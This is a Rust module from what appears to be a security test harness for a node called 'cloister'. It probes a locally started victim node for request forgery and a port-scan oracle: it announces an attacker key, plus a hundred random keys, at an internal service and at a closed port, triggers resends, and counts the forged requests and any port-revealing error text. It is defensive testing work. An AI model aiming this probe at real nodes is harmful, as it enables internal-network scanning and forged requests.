//! Request forgery and the port-scan oracle: the attacker proves a key of its own, has a
//! transaction of that key stored, then announces the key (with a hundred more) at URLs of its
//! choosing (an internal service, a closed port) and asks for a resend to it. A node that moves
//! the key without proof sends the transactions wherever the attacker points it, on request,
//! and tells apart in its error whether the port was open, closed or filtered. A node that
//! validates keys sends the internal service one challenge, however many keys are claimed.

use std::fmt;
use std::sync::Arc;

use cloister_core::keys::PublicKey;
use cloister_core::partyinfo::PartyInfo;
use cloister_harness::http::Request;
use cloister_harness::nodes::free_port;
use serde_json::json;

use super::amplify::{crafted, push, random};
use super::fake_peer::FakePeer;
use super::{announce, Attacker, Victim, LEGACY_VERSIONS};

/// Keys claimed besides the attacker's own in each announcement.
const EXTRA_KEYS: usize = 100;

/// What the probe learnt.
#[derive(Debug, Clone)]
pub struct Scan {
    /// The status of the announcement of the attacker's key at a closed port.
    pub announce_status: u16,
    /// The status of the resend to that key afterwards.
    pub resend_status: u16,
    /// Whether the resend's answer says something about the port ("refused", "connect").
    pub resend_reveals_port: bool,
    /// Requests the node sent to the internal service the keys were announced at.
    pub forged_requests: usize,
    /// Of those, pushes of stored transactions (`/push`, `/pushBatch`).
    pub forged_pushes: usize,
    /// Whether the node, restarted on its data, came back healthy.
    pub restart_healthy: bool,
}

/// Runs the probe.
pub fn run() -> anyhow::Result<Scan> {
    let mut victim = Victim::start(json!({}));
    let attacker = Attacker::start()?;
    attacker.join(&victim)?;
    let status = push(&victim, &crafted(attacker.key(), 64, 1));
    anyhow::ensure!(
        status == 201,
        "storing the attacker's transaction: {status}"
    );
    let target = victim.dir.p2p_target();
    let resend = || {
        Request::new("POST", "/resendBatch")
            .json(&json!({ "publicKey": attacker.key().to_base64(), "batchSize": 10 }))
            .send(&target)
    };
    let plant = |url: &str| {
        let extra = (0..EXTRA_KEYS).map(|_| PublicKey::from_slice(&random(32), "key"));
        let keys: Vec<PublicKey> = std::iter::once(Ok(attacker.key()))
            .chain(extra)
            .collect::<Result<_, _>>()
            .expect("32-byte keys");
        let info = PartyInfo::new(url, keys.into_iter().map(|k| (k, url.to_owned())), []);
        announce(&target, &info, LEGACY_VERSIONS, "application/octet-stream").status
    };
    // A service inside the victim's network, not a node: it answers everything 404.
    let service = FakePeer::start(Arc::new(|_: &_| (404, Vec::new())))?;
    plant(&service.url());
    resend();
    let announce_status = plant(&format!("http://127.0.0.1:{}/", free_port()));
    let answer = resend();
    let text = answer.text().to_ascii_lowercase();
    Ok(Scan {
        announce_status,
        resend_status: answer.status,
        resend_reveals_port: text.contains("refused") || text.contains("connect"),
        forged_requests: service.received("").len(),
        forged_pushes: service.received("POST /push").len(),
        restart_healthy: victim.restart_is_healthy(),
    })
}

impl fmt::Display for Scan {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{} keys announced at an internal service, then a resend: {} requests sent to it, {} of them pushes; the key announced at a closed port: {}, resend: {} (reveals the port: {}); restart healthy: {}",
            EXTRA_KEYS + 1,
            self.forged_requests,
            self.forged_pushes,
            self.announce_status,
            self.resend_status,
            self.resend_reveals_port,
            self.restart_healthy
        )
    }
}
